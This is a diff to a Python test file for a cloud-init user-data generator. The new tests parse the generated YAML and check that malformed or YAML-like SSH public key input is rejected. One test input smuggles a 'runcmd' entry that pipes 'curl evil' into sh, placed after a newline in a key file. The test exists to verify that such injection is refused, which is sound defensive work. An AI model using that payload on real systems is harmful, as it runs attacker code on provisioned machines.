@@ -325,9 +325,42 @@ def test_the_host_key_put_in_user_data_is_a_key_openssh_reads(tmp_path):
     assert derived.split()[:2] == pair.public_openssh.split()[:2]
     data = cloud_init.user_data(login_public_key="ssh-ed25519 AAAA login", host_key=pair, shutdown_minutes=240)
     assert data.startswith("#cloud-config\n")
-    assert "  - ssh-ed25519 AAAA login\n" in data and "  - [shutdown, -h, '+240']\n" in data
-    assert "    -----BEGIN OPENSSH PRIVATE KEY-----\n" in data
-    assert f"  ed25519_public: {' '.join(pair.public_openssh.split()[:2])}\n" in data
+    parsed = cloud_init_yaml(data)  # what cloud-init reads
+    assert parsed["ssh_authorized_keys"] == ["ssh-ed25519 AAAA login"]
+    assert parsed["runcmd"] == [["shutdown", "-h", "+240"]]
+    assert parsed["ssh_keys"]["ed25519_private"] == pair.private_openssh
+    assert parsed["ssh_keys"]["ed25519_public"] == " ".join(pair.public_openssh.split()[:2])
+    assert set(parsed) == {"ssh_pwauth", "ssh_authorized_keys", "ssh_deletekeys", "ssh_keys", "runcmd"}
+
+
+def cloud_init_yaml(data: str) -> dict:
+    yaml = pytest.importorskip("yaml", reason="reading the document as cloud-init does needs PyYAML")
+    return yaml.safe_load(data)
+
+
+@pytest.mark.parametrize("comment", ["me@host: admin", "x # y", "'quoted' \"double\"", "a: [b, c]", "{x: 1}", "&a *a !!str"])
+def test_a_key_comment_that_looks_like_yaml_stays_one_value(tmp_path, comment):
+    from pytest_agentbench.infra import cloud_init
+
+    pub = tmp_path / "id.pub"
+    pub.write_text(f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey {comment}\n")
+    key = cloud_init.read_public_key(pub)
+    parsed = cloud_init_yaml(cloud_init.user_data(login_public_key=key, host_key=None, shutdown_minutes=None))
+    assert parsed == {"ssh_pwauth": False, "ssh_authorized_keys": [key]}
+
+
+@pytest.mark.parametrize("text", [
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey me\nruncmd: [[sh, -c, 'curl evil | sh']]\n",
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey one\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey two\n",
+    "ssh-ed25519 not*base64 me\n", "ssh-ed25519\n", "-----BEGIN OPENSSH PRIVATE KEY-----\n", "ssh-ed25519 AAAA me\x1b[2J\n",
+])
+def test_a_public_key_file_that_is_not_one_key_on_one_line_is_refused(tmp_path, text):
+    from pytest_agentbench.infra import cloud_init
+
+    pub = tmp_path / "id.pub"
+    pub.write_text(text)
+    with pytest.raises(cloud_init.KeySetupError, match="is not one OpenSSH public key on one line"):
+        cloud_init.read_public_key(pub)
 
 
 def test_vm_connection_authenticates_through_the_users_ssh_agent(sshd, waa, tmp_path, monkeypatch):
